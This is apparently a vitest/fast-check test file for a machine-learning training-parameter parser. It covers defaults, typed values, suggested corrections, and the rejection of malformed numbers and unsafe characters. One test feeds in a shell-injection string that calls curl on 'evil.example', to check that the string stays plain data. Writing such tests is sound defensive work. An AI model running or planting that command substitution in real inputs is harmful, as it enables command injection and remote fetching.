import * as fc from 'fast-check'
import { expect, test } from 'vitest'
import { type DeclaredParameters, readParameter, readParameters } from '../../src/training/parameters.ts'
import { parametersSchema } from '../../src/training/training-request.ts'
import { anyText } from './training-world.ts'

const DECLARED: DeclaredParameters = {
  learning_rate: { type: 'number', min: 0.00001, max: 1, default: 0.01, search: 'log' },
  epochs: { type: 'integer', min: 1, max: 200, default: 20 },
  optimizer: { type: 'category', values: ['adam', 'sgd'], default: 'adam' },
  layers: { type: 'category', values: [1, 2, 4], default: 2 },
  early_stop: { type: 'boolean', default: false },
  note: { type: 'text', default: '' },
}
const read = (...words: readonly (readonly [string, string])[]) => readParameters(DECLARED, new Map(words))
const mistakesOf = (...words: readonly (readonly [string, string])[]) => {
  const reading = read(...words)
  return reading.is === 'refused' ? reading.mistakes.map(({ name, what, mend }) => `${name}: ${what}. ${mend}`) : []
}

test('what was not written gets the default of model.yml, and what was written its own type', () => {
  expect(read(['learning_rate', '2e-2'], ['epochs', '30'], ['layers', '4'], ['early_stop', 'true'])).toEqual({
    is: 'read',
    parameters: { learning_rate: 0.02, epochs: 30, optimizer: 'adam', layers: 4, early_stop: true, note: '' },
  })
})

test('every mistake is told at once, with what was probably meant', () => {
  expect(
    mistakesOf(
      ['learning-rate', '0.1'],
      ['epochs', '201'],
      ['optimizer', 'adm'],
      ['early_stop', 'yes'],
      ['layers', '3'],
    ),
  ).toEqual([
    'learning-rate: model.yml declares no such parameter. Did you mean learning_rate? Parameters here: learning_rate, epochs, optimizer, layers, early_stop, note.',
    'epochs: 201 is outside 1 to 200. Choose a value from 1 to 200.',
    'optimizer: adm is none of its values. Did you mean adam? Values here: adam, sgd.',
    'layers: 3 is none of its values. Values here: 1, 2, 4.',
    'early_stop: yes is neither true nor false. Write true or false.',
  ])
})

test.each([
  'NaN',
  'Infinity',
  '-Infinity',
  '1e999',
  '0x10',
  '0b1',
  '1_000',
  '1,5',
  '',
  ' 1',
  '1 ',
  '١',
  '1e',
  'e1',
  '--1',
  '+1',
  '1n',
  '.',
])('%j is no number', (word) => {
  expect(readParameter({ type: 'number' }, word)).toMatchObject({ mend: 'Write a number, such as 0.5.' })
  expect(readParameter({ type: 'integer' }, word)).toHaveProperty('what')
})

test.each(['1.5', '1e3', '9007199254740993', '99999999999999999999'])('%j is no whole number', (word) => {
  expect(readParameter({ type: 'integer' }, word)).toHaveProperty('what')
})

test('a parameter without default and value is asked for by name', () => {
  const reading = readParameters({ dropout: { type: 'number', min: 0, max: 1 } }, new Map())
  expect(reading).toEqual({
    is: 'refused',
    mistakes: [{ name: 'dropout', what: 'has no default and no value', mend: 'Write dropout=0.' }],
  })
})

test.each([
  ['a newline', 'a\nb'],
  ['NUL', 'a\u0000b'],
  ['text that runs backwards', 'a\u202eb'],
  ['a zero-width space', 'a\u200bb'],
  ['half a character', 'a\ud800b'],
  ['1,001 characters', 'x'.repeat(1001)],
])('text with %s is refused', (_, word) => {
  expect(readParameter({ type: 'text' }, word)).toHaveProperty('mend')
  expect(readParameter({ type: 'category' }, word)).toHaveProperty('mend')
})

test('a shell word is a text like any other, and stays data (S10)', () => {
  const word = '$(curl evil.example); `id` && "quoted" | tee'
  expect(readParameter({ type: 'text' }, word)).toEqual({ value: word })
})

test('whatever is written, the answer is a mistake or plain JSON that the workflow reads back', () => {
  const anyWord = fc.oneof(anyText, fc.double().map(String), fc.constantFrom('true', 'adam', '__proto__', '-0'))
  const anyName = fc.oneof(
    fc.constantFrom(...Object.keys(DECLARED)),
    anyText,
    fc.constantFrom('__proto__', 'constructor'),
  )
  fc.assert(
    fc.property(fc.array(fc.tuple(anyName, anyWord), { maxLength: 6 }), (words) => {
      const reading = readParameters(DECLARED, new Map(words))
      expect(reading.is === 'read' || reading.mistakes.length > 0).toBe(true)
      if (reading.is === 'refused') return
      const { parameters } = reading
      expect(Object.keys(parameters).sort()).toEqual(Object.keys(DECLARED).sort())
      expect(parametersSchema.parse(JSON.parse(JSON.stringify(parameters)))).toEqual(parameters)
    }),
    { numRuns: 300 },
  )
})
